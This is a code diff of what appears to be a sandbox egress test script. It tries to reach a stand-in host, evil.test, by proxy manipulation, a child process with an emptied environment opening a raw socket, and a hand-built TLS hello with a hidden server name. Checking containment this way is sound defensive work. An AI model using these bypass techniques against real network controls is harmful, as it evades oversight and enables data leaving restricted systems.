@@ -17,7 +17,8 @@ attempt("NO_PROXY", lambda: urllib.request.urlopen("http://evil.test/", timeout=
 os.environ["http_proxy"] = f"http://{EVIL}:3128"
 del os.environ["NO_PROXY"], os.environ["no_proxy"]
 attempt("another proxy", lambda: urllib.request.urlopen("http://evil.test/", timeout=4).read())
-attempt("child", lambda: subprocess.run([sys.executable, "-c", f"import socket; s = socket.create_connection(({EVIL!r}, 80), 3); s.send(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); assert s.recv(10)"], check=True, env={}, stderr=subprocess.DEVNULL, timeout=10))
+CHILD = f"import socket; s = socket.create_connection(({EVIL!r}, 80), 3); s.send({request('evil.test')!r}); assert s.recv(10)"
+attempt("child", subprocess.run, [sys.executable, "-c", CHILD], check=True, env={}, stderr=subprocess.DEVNULL, timeout=10)
 attempt("allowed by urllib", lambda: direct.open("https://allowed.test/", timeout=4).read())
 attempt("allowed by socket", fetch, "allowed.test")
 '''
@@ -63,8 +64,10 @@ def hello(outer, encrypted=True):
     name = outer.encode()
     extensions = extension(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name) + extension(43, b"\x02\x03\x04")
     extensions += extension(10, b"\0\2\0\x1d") + extension(13, b"\0\2\x04\x03") + extension(51, struct.pack("!HHH", 36, 0x1d, 32) + os.urandom(32))
-    if encrypted: extensions += extension(0xfe0d, b"\0" + struct.pack("!HHB", 1, 1, 7) + struct.pack("!H", 32) + bytes(32) + struct.pack("!H", 160) + os.urandom(160))
-    body = struct.pack("!H", 0x0303) + os.urandom(32) + b"\x20" + bytes(32) + struct.pack("!HH", 2, 0x1301) + b"\x01\0" + struct.pack("!H", len(extensions)) + extensions
+    sealed = struct.pack("!BHHBH", 0, 1, 1, 7, 32) + bytes(32) + struct.pack("!H", 160) + os.urandom(160)
+    if encrypted: extensions += extension(0xfe0d, sealed)
+    body = struct.pack("!H", 0x0303) + os.urandom(32) + b"\x20" + bytes(32) + struct.pack("!HH", 2, 0x1301) + b"\x01\0"
+    body += struct.pack("!H", len(extensions)) + extensions
     message = b"\x01" + struct.pack("!I", len(body))[1:] + body
     return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message
 attempt("encrypted hello", lambda: answer(dial("allowed.test", 443), hello("allowed.test")))
